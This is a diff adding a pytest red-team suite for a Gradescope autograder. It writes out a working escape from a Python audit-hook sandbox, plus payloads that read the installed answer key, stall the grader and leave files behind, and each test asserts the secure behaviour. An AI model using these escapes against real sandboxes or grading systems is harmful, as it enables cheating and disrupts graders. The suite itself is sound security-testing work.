@@ -1,0 +1,241 @@
+"""Red team, Gradescope container mode: attacks on the generated autograder that succeeded (each test FAILS while
+the hole exists and asserts the secure behaviour).
+
+Every attack starts the same way: the kernel's audit hook is a second layer only, and it is escaped in two lines.
+The hook resolves a relative path against the current folder, but ``os.open(rel, dir_fd=fd)`` resolves it from `fd`
+(the "open" audit event carries no dir_fd) and ``os.chdir`` is not checked: with a dir fd of the working copy and a
+deeper current folder, the hook checks a path that does not exist while the kernel opens any folder on the disk.
+``_imp.create_builtin`` (or loading the extension under another module name) gives back
+``_posixsubprocess.fork_exec``, which starts a fresh Python without any hook. What remains is the operating
+system's boundary (the user id ``distlab-kernel``), and that is what these tests probe.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import secrets
+import shutil
+import signal
+import subprocess
+import tempfile
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from class_helpers import ROOT, SECRET, autograder_env, needs_unprivileged_python, solve, write_roster
+from distlab.grading import gradescope, variants
+from distlab.grading.sandbox import kill_user
+
+pytestmark = [pytest.mark.notebook, needs_unprivileged_python]
+
+#: the kernel user of these tests only (not class_helpers.KERNEL_ID, which other tests share): ending "every
+#: process of this user" after an attack ends only what these tests started
+KERNEL_UID = 61777
+OWN_KERNEL_ID = f"{KERNEL_UID}:{KERNEL_UID}"
+
+#: the audit-hook escape (see the module docstring): _dirfd(path) opens any folder, _read/_write work from it,
+#: _spawn(argv) starts a process without the hook (setsid: outside the kernel's process group)
+ESCAPE = r"""
+import os, sys, _imp, importlib.util, importlib.machinery as _M
+_work = os.getcwd()
+_depth = len(_work.strip("/").split("/"))
+os.makedirs("zz/a/b/c/d/e/f/g/h/i/j/k", exist_ok=True)
+_wfd = os.open(".", os.O_RDONLY)
+def _dirfd(path):
+    os.chdir(_work + "/zz/a/b/c/d/e/f/g/h/i/j/k")
+    try:
+        return os.open("../" * _depth + path.lstrip("/"), os.O_RDONLY, dir_fd=_wfd)
+    finally:
+        os.chdir(_work)
+def _read(dirpath, *names):
+    fd = _dirfd(dirpath)
+    for n in names[:-1]:
+        fd = os.open(n, os.O_RDONLY, dir_fd=fd)
+    f, data = os.open(names[-1], os.O_RDONLY, dir_fd=fd), b""
+    while True:
+        chunk = os.read(f, 1 << 20)
+        if not chunk:
+            return data
+        data += chunk
+_o = sys.modules["_posixsubprocess"].__spec__.origin
+if _o == "built-in":
+    _ps = _imp.create_builtin(_M.ModuleSpec("_posixsubprocess", _M.BuiltinImporter))
+else:
+    _ps = importlib.util.module_from_spec(importlib.util.spec_from_file_location("zz._posixsubprocess", _o))
+def _spawn(argv, pass_fds=()):
+    r, w = os.pipe()
+    pid = _ps.fork_exec(argv, [os.fsencode(argv[0])], True, tuple(sorted(pass_fds)), None, None,
+                        -1, -1, -1, -1, -1, -1, r, w, True, True, -1, None, None, None, -1, None, False)
+    os.close(w); os.close(r)
+    return pid
+"""
+
+#: a generic answer-key hunt: the real lesson module lies on the disk wherever the grader imports distlab from
+#: (the container's site-packages; here the checkout on the grader's PYTHONPATH), readable by the kernel's user
+KEY_HUNT = r"""
+import types
+_roots = [p for p in sys.path if p.startswith("/")]
+try:
+    for _e in _read("/proc/%d" % os.getppid(), "environ").split(b"\0"):
+        if _e.startswith(b"PYTHONPATH="):
+            _roots += [p for p in _e[11:].decode().split(":") if p.startswith("/")]
+except OSError:
+    pass
+_src = _vsrc = None
+for _p in _roots:
+    try:
+        _s = _read(_p + "/distlab", "lessons", "memory_wall.py").decode()
+    except OSError:
+        continue
+    if "QuestionStub" not in _s:
+        _src, _vsrc = _s, _read(_p + "/distlab", "lessons", "variants.py").decode()
+        break
+def _mod(name, src):
+    m = types.ModuleType("distlab.lessons." + name)
+    m.__package__ = "distlab.lessons"
+    sys.modules[m.__name__] = m
+    exec(compile(src, name, "exec"), m.__dict__)
+    return m
+_mw, _var = _mod("mw_real", _src), _mod("var_real", _vsrc)
+for _n, _q in _mw.QUESTIONS.items():
+    globals()["answer_" + _n] = _var.variant(_q, "memory_wall", SEED).expected()
+"""
+
+#: the unprivileged phase's grader runs as the kernel's own user: a process of that user stops it, or keeps the
+#: pipe to `head` open, and run_autograder waits on the pipeline forever (kill -KILL -1 comes only after it)
+HANG = {
+    "stop-the-grader": r"""
+_spawn([sys.executable, "-c", "import os, signal, time; time.sleep(1); os.kill(%d, signal.SIGSTOP); time.sleep(3600)"
+        % os.getppid()])
+import time; time.sleep(3)
+""",
+    "hold-the-pipe": r"""
+_spawn([sys.executable, "-c", "import os, ctypes, time; fd = ctypes.CDLL(None).syscall(438, os.pidfd_open(%d), 1, 0);"
+        " time.sleep(3600)" % os.getppid()])
+import time; time.sleep(3)
+""",
+}
+
+#: files the notebook leaves outside its copy, in folders every user may write (no quota in container mode)
+LEAVE = r"""
+_spawn([sys.executable, "-c", "open('/tmp/{name}', 'w').write('x'); open('/dev/shm/{name}', 'w').write('x')"])
+import time; time.sleep(2)
+"""
+
+
+def _autograder(base: Path, timeout: float):
+    """A fake /autograder (as tests/grading/test_container_mode.py lays it out); returns (root, bob's seed)."""
+    os.chmod(base, 0o755)
+    roster_csv, secret = write_roster(base, ids=("alice", "bob"))
+    zip_path = gradescope.build_autograder(
+        "memory_wall", base / "autograder.zip", timeout=timeout, roster=roster_csv, secret_file=secret
+    )
+    root = base / "autograder"
+    with zipfile.ZipFile(zip_path) as zf:
+        zf.extractall(root / "source")
+    (root / "submission").mkdir()
+    (root / "submission_metadata.json").write_text(json.dumps({"users": [{"email": "bob@uni.example"}]}))
+    roster = variants.load_roster(roster_csv, SECRET)
+    variants.build_variants(roster, ROOT / "exercises", base / "v", ["memory_wall"])
+    return root, roster.seed("memory_wall", "bob")
+
+
+def _submit(root: Path, seed: str, cells: list[str], solved: bool) -> None:
+    notebook = root.parent / "v" / "bob" / "01_memory_wall.ipynb"
+    if solved:
+        solve(notebook, "memory_wall", seed)
+    nb = json.loads(notebook.read_text())
+    for source in cells:
+        nb["cells"].append(
+            {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": source}
+        )
+    (root / "submission" / "01_memory_wall.ipynb").write_text(json.dumps(nb))
+
+
+def _run(root: Path, limit: float):
+    """(results.json or None, seconds): run_autograder in its own session, everything it left killed afterwards."""
+    started = time.monotonic()
+    proc = subprocess.Popen(
+        ["bash", str(root / "source" / "run_autograder")],
+        env=autograder_env(root, DISTLAB_KERNEL_USER=OWN_KERNEL_ID),
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+        start_new_session=True,
+    )
+    try:
+        proc.wait(timeout=limit)
+    except subprocess.TimeoutExpired:
+        pass
+    finally:
+        for _ in range(3):
+            kill_user(KERNEL_UID)
+            try:
+                os.killpg(proc.pid, signal.SIGKILL)
+            except OSError:
+                pass
+        proc.wait()
+    results = root / "results" / "results.json"
+    return (json.loads(results.read_text()) if results.exists() else None), time.monotonic() - started
+
+
+@pytest.fixture
+def base():
+    folder = Path(tempfile.mkdtemp(prefix="distlab-redteam-container-"))
+    try:
+        yield folder
+    finally:
+        kill_user(KERNEL_UID)
+        shutil.rmtree(folder, ignore_errors=True)
+
+
+def test_a_blank_notebook_cannot_read_the_installed_answer_key_for_full_marks(base):
+    # the real lesson modules (every expected value's code) lie readable by distlab-kernel in the container's
+    # site-packages, since the unprivileged phase's grader imports them to build the student view
+    root, seed = _autograder(base, timeout=120)
+    _submit(root, seed, [ESCAPE, KEY_HUNT.replace("SEED", repr(seed))], solved=False)
+    result, _ = _run(root, limit=300)
+    assert result is not None
+    assert result["score"] == 0.0, "a notebook without one typed answer scored from the answer key on the disk"
+
+
+@pytest.mark.parametrize("how", sorted(HANG))
+def test_a_notebook_cannot_keep_the_autograder_from_writing_results(base, how):
+    root, seed = _autograder(base, timeout=30)
+    _submit(root, seed, [ESCAPE, HANG[how]], solved=True)
+    result, seconds = _run(root, limit=150)
+    assert result is not None, f"run_autograder hung ({seconds:.0f} s) and left no results.json"
+    assert result["score"] == 8.0
+
+
+def test_nothing_the_notebook_writes_outlives_its_grading(base):
+    root, seed = _autograder(base, timeout=120)
+    name = f"distlab-redteam-left-{secrets.token_hex(6)}"
+    try:
+        _submit(root, seed, [ESCAPE, LEAVE.format(name=name)], solved=True)
+        result, _ = _run(root, limit=300)
+        assert result is not None and result["score"] == 8.0
+        left = [p for p in (f"/tmp/{name}", f"/dev/shm/{name}") if os.path.exists(p)]
+        assert left == [], f"files of the notebook's user outlived its grading: {left}"
+    finally:
+        for p in (f"/tmp/{name}", f"/dev/shm/{name}"):
+            try:
+                os.unlink(p)
+            except OSError:
+                pass
+
+
+@pytest.mark.parametrize("lesson", ["memory_wall"])
+def test_the_bundled_source_holds_every_file_its_install_needs(tmp_path, lesson):
+    # found on the way: setup.sh pip-installs /autograder/source/distlab-src, but the zip leaves out the data file
+    # pyproject.toml installs (share/jupyter/...), so the install fails ("can't copy ...: doesn't exist") and
+    # Gradescope never gets a working autograder: no submission is graded
+    import tomllib
+
+    zip_path = gradescope.build_autograder(lesson, tmp_path / "autograder.zip")
+    names = set(zipfile.ZipFile(zip_path).namelist())
+    data = tomllib.loads((ROOT / "pyproject.toml").read_text())["tool"]["setuptools"].get("data-files", {})
+    missing = [f for files in data.values() for f in files if f"distlab-src/{f}" not in names]
+    assert missing == []
